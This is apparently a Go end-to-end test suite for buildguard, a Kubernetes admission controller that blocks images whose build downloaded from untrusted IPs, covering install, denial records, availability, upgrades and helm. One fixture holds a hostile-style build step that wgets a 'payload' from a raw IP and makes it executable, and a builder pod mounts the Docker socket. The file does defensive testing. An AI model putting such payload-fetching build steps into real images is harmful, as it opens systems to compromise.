package e2e

import (
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"
)

// testInstalled installs buildguard on the node as users do and attacks
// it.
func testInstalled(t *testing.T, e *nodeEnv, img *ImageBuild) {
	ctx := e.ctx
	in := installNode(t, e, img)
	t.Run("AN1261: a build on the node, downloading from an unknown IP, is denied", func(t *testing.T) { testNodeBuild(t, e, in) })
	t.Run("admission stays up while replicas are killed and restarted", func(t *testing.T) { testAvailability(t, e, in) })
	t.Run("an upgrade to a new image keeps admission answering", func(t *testing.T) { testUpgrade(t, e, in) })
	t.Run("memory of buildguard and the node agent", func(t *testing.T) {
		e := e.on(t)
		for _, c := range []struct{ ns, selector, container string }{
			{"buildguard-system", "app.kubernetes.io/component=webhook", "buildguard"},
			{AgentNamespace, "app.kubernetes.io/component=node-agent", "node-agent"},
		} {
			for _, p := range e.podNames(c.ns, c.selector) {
				ctr, err := e.n.PodContainer(ctx, c.ns, p, c.container)
				if err != nil {
					t.Fatal(err)
				}
				ws, err := ctr.WorkingSet()
				if err != nil {
					t.Fatal(err)
				}
				t.Logf("%s/%s: working set %s (%s)", c.ns, p, mib(ws), ctr.Cgroup)
			}
		}
	})
	t.Run("helm install, upgrade and uninstall", func(t *testing.T) { testHelm(t, e, in) })
}

// installed is buildguard as installNode installed it.
type installed struct {
	img     *ImageBuild
	hostDSN string      // the store's database, from the host
	kdir    string      // the users' kustomization: the postgres overlay, the image pinned
	shop    string      // a pipeline image by digest, admitted
	rawip   string      // an image whose build downloaded from a raw IP, denied
	next    *ImageBuild // the image of the upgrade
	plugin  string      // directory holding kubectl-buildguard
}

// installNode installs buildguard as docs/install.md says (Node.Install)
// with the store on PostgreSQL outside the cluster, checks what users
// check, applies the policy and makes the namespaces of the tests.
func installNode(t *testing.T, e *nodeEnv, img *ImageBuild) *installed {
	t.Helper()
	ctx := e.ctx
	in := &installed{img: img}
	store, err := e.n.StartStore(ctx, t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(store.Stop)
	in.hostDSN = store.HostDSN

	// The users' kustomization outlives the subtest: the uninstall uses it.
	in.kdir = t.TempDir()
	ok := t.Run("installed as docs/install.md says", func(t *testing.T) {
		e := e.on(t)
		t0 := time.Now()
		if err := e.n.Install(ctx, e.kubectl, img, store.PodDSN, in.kdir); err != nil {
			t.Fatal(err)
		}
		t.Logf("kubectl apply -k to both rollouts done: %s", time.Since(t0).Round(100*time.Millisecond))
		if got := e.mustKubectl("", "-n", "buildguard-system", "get", "deployment", "buildguard", "-o", "jsonpath={.status.readyReplicas}"); got != "2" {
			t.Errorf("ready replicas = %q, want 2", got)
		}
		pods := e.podNames("buildguard-system", "app.kubernetes.io/component=webhook")
		if len(pods) != 2 {
			t.Errorf("buildguard pods running: %v", pods)
		}
		for _, p := range pods {
			image := e.mustKubectl("", "-n", "buildguard-system", "get", "pod", p, "-o", "jsonpath={.spec.containers[0].image}")
			if image != img.Ref {
				t.Errorf("pod %s runs %s, want %s", p, image, img.Ref)
			}
			c, err := e.n.PodContainer(ctx, "buildguard-system", p, "buildguard")
			if err != nil {
				t.Fatal(err)
			}
			pids, err := c.PIDs()
			if err != nil || len(pids) == 0 {
				t.Fatalf("processes of %s: %v %v", p, pids, err)
			}
			id, err := Identity(pids[0])
			if err != nil {
				t.Fatal(err)
			}
			if id.UID != 65532 || id.GID != 65532 || !id.ReadOnlyFS {
				t.Errorf("%s runs as %d:%d, read-only root %v; want 65532:65532, read-only", p, id.UID, id.GID, id.ReadOnlyFS)
			}
		}
		// The CRDs accept a ClusterBuildPolicy, and buildguard accepts it.
		if err := e.n.ApplyPolicy(ctx, e.kubectl, NodePolicy); err != nil {
			t.Fatal(err)
		}
		if err := e.n.CreateNamespaces(ctx, e.kubectl, "shop", "builds", "avail"); err != nil {
			t.Fatal(err)
		}
		e.mustKubectl("", "label", "namespace", "builds", "buildguard.dev/mode=audit")
	})
	if !ok {
		t.FailNow()
	}

	now := time.Now()
	shop, err := ImageWithCmd(now.Add(-72*time.Hour), []string{"/bin/sh", "-c", "echo shop 1.4 serving; exec httpd -f -p 8080 -h /tmp"},
		"RUN /bin/sh -c apt-get update && apt-get install -y --no-install-recommends ca-certificates # buildkit",
		"COPY shop /usr/local/bin/shop # buildkit")
	if err != nil {
		t.Fatal(err)
	}
	if in.shop, err = e.n.Push(ctx, "e2e/shop:1.4", shop); err != nil {
		t.Fatal(err)
	}
	rawip, err := ImageWithCmd(now.Add(-48*time.Hour), []string{"/bin/sh"},
		"RUN /bin/sh -c wget -q http://203.0.113.9:8080/payload -O /usr/bin/p && chmod +x /usr/bin/p # buildkit")
	if err != nil {
		t.Fatal(err)
	}
	if in.rawip, err = e.n.Push(ctx, "e2e/rawip:1", rawip); err != nil {
		t.Fatal(err)
	}
	// kubectl buildguard: the buildguard command installed as a kubectl
	// plugin, as docs/denials.md says.
	in.plugin = t.TempDir()
	if _, err := BuildBuildguard(ctx, in.plugin); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(filepath.Join(in.plugin, "buildguard"), filepath.Join(in.plugin, "kubectl-buildguard")); err != nil {
		t.Fatal(err)
	}
	return in
}

func (e *nodeEnv) podNames(namespace, selector string) []string {
	e.t.Helper()
	return strings.Fields(e.mustKubectl("", "-n", namespace, "get", "pods", "-l", selector, "--field-selector=status.phase=Running",
		"-o", "jsonpath={.items[*].metadata.name}"))
}

// kubectlBuildguard runs kubectl buildguard ARGS with the plugin on PATH.
func (e *nodeEnv) kubectlBuildguard(in *installed, args ...string) (string, error) {
	root, err := Root()
	if err != nil {
		return "", err
	}
	// kubectl takes no flags before a plugin's name.
	cmd := exec.CommandContext(e.ctx, filepath.Join(root, Bin, "kubectl"), append([]string{"buildguard"}, args...)...)
	cmd.Env = append(os.Environ(), "KUBECONFIG="+e.cp.Kubeconfig, "PATH="+in.plugin+":"+os.Getenv("PATH"), "BUILDGUARD_STORE_POSTGRES_DSN="+in.hostDSN)
	out, err := cmd.CombinedOutput()
	if err != nil {
		return string(out), fmt.Errorf("kubectl buildguard %s: %w\n%s", strings.Join(args, " "), err, out)
	}
	return string(out), nil
}

// testNodeBuild is MITRE ATT&CK analytic AN1261 on the node: a pod that
// mounts the node's Docker socket builds an image whose build step
// downloads from an unknown IP (a server of this test on 127.0.0.23),
// pushes it and deploys it. The node agent, a DaemonSet on the node,
// reports the build and the connection, authenticated by the API server's
// TokenReview; the deployment is denied naming node, process, destination
// and build time, and the denial is in the store. A pipeline image is
// admitted and its pods run.
func testNodeBuild(t *testing.T, e *nodeEnv, in *installed) {
	e = e.on(t)
	ctx := e.ctx
	unknownPort := payloadServer(t, "127.0.0.23:0")
	cli, err := DockerCLIImage()
	if err != nil {
		t.Fatal(err)
	}
	cliRef, err := e.n.Push(ctx, "tools/docker-cli:20.10", cli)
	if err != nil {
		t.Fatal(err)
	}
	hotfix := NodeRegistry + "/e2e/hotfix:dev"
	out := e.mustKubectl(BuilderPodYAML(cliRef, hotfix, unknownPort), "apply", "-f", "-")
	// The builds namespace is audited: the pod is admitted, with what
	// enforce would have denied it for.
	if !strings.Contains(out, "runtime-socket-mount") {
		t.Errorf("the builder pod mounting the Docker socket was admitted without a runtime-socket-mount warning:\n%s", out)
	}
	if err := e.n.WaitPod(ctx, "builds", "builder", 5*time.Minute); err != nil {
		t.Fatal(err)
	}
	t.Logf("builder pod:\n%s", tailString(e.mustKubectl("", "-n", "builds", "logs", "builder"), 1500))
	if err := e.n.WaitAgentReport(ctx, 1, 1); err != nil {
		t.Fatal(err)
	}
	for _, s := range []string{"ebpf", "procfs"} {
		if e.n.AgentMetric(ctx, fmt.Sprintf("buildguard_node_agent_sensor{sensor=%q}", s)) == 1 {
			t.Logf("the node agent's connection sensor: %s", s)
		}
	}
	out, err = e.kubectl("", "-n", "shop", "create", "deployment", "hotfix", "--image="+hotfix)
	if err == nil {
		t.Fatalf("the image built on the node was admitted: %s", out)
	}
	t.Logf("denial: %s", out)
	for _, want := range []string{
		`admission webhook "validate.buildguard.dev" denied the request`,
		"[untrusted-egress] while node " + NodeName + " built this image",
		fmt.Sprintf("connected to untrusted 127.0.0.23:%d", unknownPort),
		"wget (pid ",
		"(docker build, ",
		"[host-built]",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("denial does not contain %q", want)
		}
	}
	var rec string
	e.eventually(30*time.Second, "the denial in the store", func() error {
		var err error
		rec, err = e.kubectlBuildguard(in, "denials", "-n", "shop", "--rule=untrusted-egress", "-o", "json")
		if err != nil || !strings.Contains(rec, `"name":"hotfix"`) {
			return fmt.Errorf("%v: %s", err, rec)
		}
		return nil
	})
	for _, want := range []string{`"node":"` + NodeName + `"`, `"destIP":"127.0.0.23"`, fmt.Sprintf(`"destPort":%d`, unknownPort), `"process":"wget"`, `"started":"`} {
		if !strings.Contains(rec, want) {
			t.Errorf("kubectl buildguard denials: the record has no %s:\n%s", want, rec)
		}
	}
	table, err := e.kubectlBuildguard(in, "denials", "-n", "shop")
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("kubectl buildguard denials -n shop:\n%s", table)

	// A pipeline image is admitted, and its pods run.
	e.mustKubectl("", "-n", "shop", "create", "deployment", "shop", "--image="+in.shop, "--replicas=2")
	e.mustKubectl("", "-n", "shop", "rollout", "status", "deployment/shop", "--timeout=120s")
	pods := e.mustKubectl("", "-n", "shop", "get", "pods", "-l", "app=shop")
	if strings.Count(pods, "Running") != 2 {
		t.Errorf("the pipeline image's pods:\n%s", pods)
	}
	t.Logf("kubectl -n shop get pods:\n%s", pods)
}

// loadDuring runs an AdmissionLoad in namespace avail for d while f runs,
// and fails t if any admission failed for a reason other than policy or
// any decision is not in the store.
func loadDuring(t *testing.T, e *nodeEnv, in *installed, d time.Duration, f func()) LoadResult {
	t.Helper()
	e = e.on(t)
	var before int
	if n, err := countDecisions(e.ctx, in.hostDSN, "avail"); err != nil {
		t.Fatal(err)
	} else {
		before = n
	}
	lctx, cancel := context.WithTimeout(e.ctx, d)
	defer cancel()
	// The logs of the replicas deleted meanwhile, for a failure.
	go e.n.KeepPodLogs(lctx, "buildguard-system")
	load := &AdmissionLoad{Allowed: in.shop, Denied: in.rawip, Namespace: "avail", Workers: 2, Interval: 100 * time.Millisecond}
	done := make(chan LoadResult, 1)
	go func() {
		r, err := load.Run(lctx, e.cp.Kubeconfig)
		if err != nil {
			t.Error(err)
		}
		done <- r
	}()
	f()
	r := <-done
	t.Logf("%s", r)
	for _, f := range r.Failures {
		t.Errorf("admission failed: %s", f)
	}
	if r.Admitted == 0 || r.Denied == 0 {
		t.Errorf("the load admitted %d and denied %d: it did not run", r.Admitted, r.Denied)
	}
	// Every answer has its record; a request that failed may have one.
	want := int(r.Admitted + r.Denied)
	var got int
	e.eventually(60*time.Second, "every decision in the store", func() error {
		n, err := countDecisions(e.ctx, in.hostDSN, "avail")
		got = n - before
		if err != nil || got < want {
			return fmt.Errorf("%d of %d decision records (%v)", got, want, err)
		}
		return nil
	})
	if got < want {
		names, err := decisionNames(e.ctx, in.hostDSN, "avail")
		if err != nil {
			t.Fatal(err)
		}
		for name, at := range r.Answered {
			if !names[name] {
				t.Errorf("no decision record of %s, answered at %s", name, at.Format("15:04:05.000"))
			}
		}
	}
	if got > want+len(r.Failures) {
		t.Errorf("%d decision records for %d answers and %d failures: more records than requests", got, want, len(r.Failures))
	}
	t.Logf("%d decision records stored for %d answers: %d lost", got, want, max(0, want-got))
	return r
}

// countDecisions counts the decision records of Deployments in namespace
// in the store (their ReplicaSets are judged, and recorded, too).
func countDecisions(ctx context.Context, dsn, namespace string) (int, error) {
	conn, err := pgx.Connect(ctx, dsn)
	if err != nil {
		return 0, err
	}
	defer conn.Close(context.Background())
	var n int
	err = conn.QueryRow(ctx, "SELECT count(*) FROM decisions WHERE namespace = $1 AND kind = 'Deployment'", namespace).Scan(&n)
	return n, err
}

// decisionNames returns the names of the Deployments of namespace with a
// decision record.
func decisionNames(ctx context.Context, dsn, namespace string) (map[string]bool, error) {
	conn, err := pgx.Connect(ctx, dsn)
	if err != nil {
		return nil, err
	}
	defer conn.Close(context.Background())
	rows, err := conn.Query(ctx, "SELECT name FROM decisions WHERE namespace = $1 AND kind = 'Deployment'", namespace)
	if err != nil {
		return nil, err
	}
	names := map[string]bool{}
	for rows.Next() {
		var n string
		if err := rows.Scan(&n); err != nil {
			return nil, err
		}
		names[n] = true
	}
	return names, rows.Err()
}

// testAvailability: while a client applies workloads, one replica is
// force-deleted, then the Deployment is restarted.
func testAvailability(t *testing.T, e *nodeEnv, in *installed) {
	e = e.on(t)
	loadDuring(t, e, in, 60*time.Second, func() {
		time.Sleep(10 * time.Second)
		pods := e.podNames("buildguard-system", "app.kubernetes.io/component=webhook")
		if len(pods) == 0 {
			t.Fatal("no buildguard pod")
		}
		t0 := time.Now()
		e.mustKubectl("", "-n", "buildguard-system", "delete", "pod", pods[0], "--grace-period=0", "--force")
		t.Logf("%s force-deleted at %s", pods[0], t0.Format("15:04:05.000"))
		time.Sleep(15 * time.Second)
		t0 = time.Now()
		e.mustKubectl("", "-n", "buildguard-system", "rollout", "restart", "deployment/buildguard")
		t.Logf("rollout restart at %s", t0.Format("15:04:05.000"))
		e.mustKubectl("", "-n", "buildguard-system", "rollout", "status", "deployment/buildguard", "--timeout=180s")
		t.Logf("rollout restart done in %s", time.Since(t0).Round(100*time.Millisecond))
	})
}

// testUpgrade rolls the Deployment to an image of a new digest, built from
// the same Dockerfile with another version, while the load runs.
func testUpgrade(t *testing.T, e *nodeEnv, in *installed) {
	e = e.on(t)
	next, err := e.n.BuildImage(e.ctx, "e2e-2")
	if err != nil {
		t.Fatal(err)
	}
	in.next = next
	if next.Ref == in.img.Ref {
		t.Fatalf("the new version has the same digest %s", next.Ref)
	}
	t.Logf("built %s in %s", next.Ref, next.Took.Round(time.Second))
	loadDuring(t, e, in, 45*time.Second, func() {
		time.Sleep(5 * time.Second)
		t0 := time.Now()
		e.mustKubectl("", "-n", "buildguard-system", "set", "image", "deployment/buildguard", "buildguard="+next.Ref)
		t.Logf("kubectl set image at %s", t0.Format("15:04:05.000"))
		e.mustKubectl("", "-n", "buildguard-system", "rollout", "status", "deployment/buildguard", "--timeout=180s")
		t.Logf("upgrade rolled out in %s", time.Since(t0).Round(100*time.Millisecond))
	})
	for _, p := range e.podNames("buildguard-system", "app.kubernetes.io/component=webhook") {
		if image := e.mustKubectl("", "-n", "buildguard-system", "get", "pod", p, "-o", "jsonpath={.spec.containers[0].image}"); image != next.Ref {
			t.Errorf("after the upgrade pod %s runs %s", p, image)
		}
	}
}

// helm runs bin/helm against the node, with its caches and configuration
// under NodeDir.
func (e *nodeEnv) helm(args ...string) (string, error) {
	root, err := Root()
	if err != nil {
		return "", err
	}
	cmd := exec.CommandContext(e.ctx, filepath.Join(root, Bin, "helm"), append(args, "--kubeconfig="+e.cp.Kubeconfig)...)
	cmd.Dir = root
	h := filepath.Join(NodeDir, "helm")
	cmd.Env = append(os.Environ(), "HELM_CACHE_HOME="+h+"/cache", "HELM_CONFIG_HOME="+h+"/config", "HELM_DATA_HOME="+h+"/data")
	out, err := cmd.CombinedOutput()
	if err != nil {
		return string(out), fmt.Errorf("helm %s: %w\n%s", strings.Join(args, " "), err, out)
	}
	return string(out), nil
}

// testHelm takes the kustomize install away as docs/install.md says, then
// installs the chart (PostgreSQL store, the image pinned by digest),
// upgrades it to the next image while admissions go on, and uninstalls
// it: no webhook configuration is left to fail closed.
func testHelm(t *testing.T, e *nodeEnv, in *installed) {
	e = e.on(t)
	if in.next == nil {
		t.Skip("the upgrade's image was not built")
	}
	// Uninstall, as docs/install.md says: both commands exit 0.
	e.mustKubectl("", "delete", "validatingwebhookconfiguration,mutatingwebhookconfiguration", "buildguard", "--ignore-not-found")
	e.mustKubectl("", "delete", "-k", in.kdir, "--ignore-not-found", "--timeout=180s")
	for _, ns := range []string{"buildguard-system", AgentNamespace} {
		e.eventually(3*time.Minute, "namespace "+ns+" deleted", func() error {
			if out, err := e.kubectl("", "get", "namespace", ns, "--ignore-not-found", "-o", "name"); err != nil || out != "" {
				return fmt.Errorf("%q %v", out, err)
			}
			return nil
		})
	}
	e.mustKubectl("", "create", "namespace", "buildguard-system")
	e.mustKubectl("", "label", "namespace", "buildguard-system", "pod-security.kubernetes.io/enforce=restricted")
	podDSN := strings.Replace(in.hostDSN, "@"+NodeIP+":5432/", "@postgres.db.svc:5432/", 1)
	e.mustKubectl("", "-n", "buildguard-system", "create", "secret", "generic", "buildguard-store", "--from-literal=dsn="+podDSN)
	_, digest, _ := strings.Cut(in.img.Ref, "@")
	t0 := time.Now()
	if out, err := e.helm("install", "buildguard", "charts/buildguard", "-n", "buildguard-system", "--wait", "--timeout=5m",
		"--set", "store.type=postgres", "--set", "image.repository="+ImageRepo, "--set", "image.digest="+digest); err != nil {
		t.Fatal(err)
	} else {
		t.Logf("helm install --wait: %s\n%s", time.Since(t0).Round(100*time.Millisecond), tailString(out, 600))
	}
	if got := e.mustKubectl("", "-n", "buildguard-system", "get", "deployment", "buildguard", "-o", "jsonpath={.status.readyReplicas}"); got != "2" {
		t.Errorf("ready replicas = %q, want 2", got)
	}
	e.mustKubectl("", "-n", AgentNamespace, "rollout", "status", "daemonset/buildguard-node-agent", "--timeout=180s")
	// kubectl delete -k took the CRDs and the policy with it.
	if err := e.n.ApplyPolicy(e.ctx, e.kubectl, NodePolicy); err != nil {
		t.Fatal(err)
	}
	_, next, _ := strings.Cut(in.next.Ref, "@")
	loadDuring(t, e, in, 45*time.Second, func() {
		time.Sleep(5 * time.Second)
		t0 := time.Now()
		if _, err := e.helm("upgrade", "buildguard", "charts/buildguard", "-n", "buildguard-system", "--reuse-values",
			"--set", "image.digest="+next, "--wait", "--timeout=5m"); err != nil {
			t.Error(err)
		}
		t.Logf("helm upgrade --wait to %s: %s", next, time.Since(t0).Round(100*time.Millisecond))
	})
	for _, p := range e.podNames("buildguard-system", "app.kubernetes.io/component=webhook") {
		if image := e.mustKubectl("", "-n", "buildguard-system", "get", "pod", p, "-o", "jsonpath={.spec.containers[0].image}"); image != in.next.Ref {
			t.Errorf("after helm upgrade pod %s runs %s", p, image)
		}
	}
	if _, err := e.helm("uninstall", "buildguard", "-n", "buildguard-system", "--wait", "--timeout=3m"); err != nil {
		t.Fatal(err)
	}
	for _, kind := range []string{"validatingwebhookconfigurations", "mutatingwebhookconfigurations"} {
		if out := e.mustKubectl("", "get", kind, "-o", "name"); strings.TrimSpace(out) != "" {
			t.Errorf("after helm uninstall: %s", out)
		}
	}
	if out := e.mustKubectl("", "-n", "buildguard-system", "get", "deployments,daemonsets,services", "-o", "name"); strings.TrimSpace(out) != "" {
		t.Errorf("after helm uninstall, left in buildguard-system: %s", out)
	}
	// With buildguard gone, workloads are admitted unjudged: no webhook
	// fails closed.
	e.mustKubectl("", "-n", "shop", "create", "deployment", "after-uninstall", "--image="+in.rawip, "--replicas=0")
}
